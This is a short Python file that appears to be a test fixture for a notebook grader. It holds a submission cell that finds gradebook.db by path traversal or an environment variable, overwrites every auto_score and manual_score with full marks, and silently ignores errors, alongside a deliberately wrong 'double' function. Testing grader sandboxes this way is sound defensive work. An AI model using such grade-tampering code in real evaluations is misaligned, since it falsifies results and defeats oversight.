"""Gives itself full points in the gradebook."""

DESERVES = {}
CELLS = {
    "top": r"""
import glob, os, sqlite3
for place in ("../../gradebook.db", "../../../gradebook.db", os.environ.get("GRADER_DB", "")):
    for file in glob.glob(place):
        try:
            book = sqlite3.connect(file)
            book.execute("update grade set auto_score = 3, manual_score = 3")
            book.commit()
        except Exception: pass
""",
    "double": r"""
def double(x): return 0.0
""",
}
